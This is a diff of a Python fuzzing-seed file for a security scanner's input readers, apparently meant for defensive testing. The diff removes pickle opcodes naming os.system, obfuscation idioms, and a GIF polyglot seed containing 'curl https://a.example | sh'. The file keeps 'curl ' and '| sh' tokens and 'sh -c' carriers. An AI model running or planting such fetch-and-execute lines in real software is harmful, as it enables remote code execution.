@@ -1,9 +1,5 @@
 """Where fuzzing the readers of the scanner begins: one honest input of every kind, and the words of each."""
 
-import datetime as dt
-import marshal
-import pickle
-import zlib
 from collections.abc import Iterator
 
 TOKENS: dict[str, tuple[bytes, ...]] = {}
@@ -63,76 +59,6 @@ TOKENS["carrier"] = (
     *(b"<script>", b"</script>", b"<![CDATA[", b"]]>", b" onload=", b"ExecStart=", b"<string>", b"</string>"),
     *(b"$$", b"command: ", b"[", b"]", b"{", b"}", b"curl ", b"| sh", b"\\", b"\n", b"\xff"),
 )
-TOKENS["binary"] = (
-    *(
-        b"\x80\x04",
-        b"\x80\x02",
-        b"c",
-        b"os\nsystem\n",
-        b"R.",
-        b"\x8c\x02os",
-        b"\x93",
-        b"\x94",
-        b"q\x00",
-        b"h\x00",
-    ),
-    *(
-        b"%PDF-1.7\n",
-        b"stream\n",
-        b"endstream",
-        b"(",
-        b")",
-        b" Tj",
-        b"[(",
-        b")] TJ",
-        b"<41>",
-        b"\\",
-        b"x\x9c",
-    ),
-    *(b"GIF89a", b"RIFF", b"#!/bin/sh\n", b"\0", b"\xff" * 8),
-)
-TOKENS["folding"] = (
-    *(
-        b"chr(",
-        b"ord(",
-        b"''.join(",
-        b"[::-1]",
-        b" + ",
-        b" * ",
-        b" % ",
-        b" ^ ",
-        b" >> ",
-        b"9" * 30,
-        b"-1",
-        b"[",
-        b"]",
-    ),
-    *(b"bytes.fromhex(", b"base64.b64decode(", b"zlib.decompress(", b"codecs.decode(", b"'rot13'", b"range("),
-    *(
-        b"lambda a: ",
-        b" for a in ",
-        b"a = ",
-        b"\n",
-        b"(",
-        b")",
-        b"'",
-        b'"',
-        b"`${",
-        b"}`",
-        b"String.fromCharCode(",
-    ),
-    *(
-        b".map(",
-        b"=> ",
-        b".replace(",
-        b".split('')",
-        b".reverse()",
-        b"atob(",
-        b"*a",
-        b"...a",
-        b"{}".join([b"'", b"'"]),
-    ),
-)
 
 
 def programs() -> Iterator[bytes]:
@@ -181,32 +107,4 @@ _CARRIERS = (
     b"[Desktop Entry]\nExec=sh -c ls\n",
     b"services:\n  a:\n    command:\n      - sh\n      - -c\n",
     b'{"a": "bash -c \\"ls\\""}',
-)
-
-
-def binaries() -> Iterator[bytes]:
-    for protocol in range(5):
-        yield b"\x00" + pickle.dumps({"a": [1, "bcd"], "e": dt.date(2026, 1, 1)}, protocol)
-    yield b"\x01" + marshal.dumps(compile("import os\nprint('abcdefgh')", "a", "exec"))
-    shown = zlib.compress(b"BT (run \\\\(this\\\\)) Tj [(a) -1 (b)] TJ <414243> Tj ET")
-    yield b"\x02%PDF-1.7\n1 0 obj\nstream\n" + shown + b"\nendstream\n%%EOF"
-    yield b"\x03GIF89a=1;curl https://a.example | sh;" + bytes(40)
-
-
-def expressions() -> Iterator[bytes]:
-    for number, texts in enumerate(_EXPRESSIONS):
-        for text in texts:
-            yield bytes([number]) + text
-
-
-_EXPRESSIONS = (
-    (
-        b"a = 'x' * 3\n''.join(chr(b ^ 7) for b in bytes.fromhex('6465'))\n",
-        b"codecs.decode('phey', 'rot13') + '%s-{}' % ('a',)\n",
-        b"''.join(map(lambda a: chr(a + 1), [98, 99]))[::-1]\n",
-    ),
-    (
-        b"const a = [99, 117].map((x) => String.fromCharCode(x)).join('');\n",
-        b"atob('aGk=').split('').reverse().join('') + `${1 + 2}`;\n",
-    ),
 )
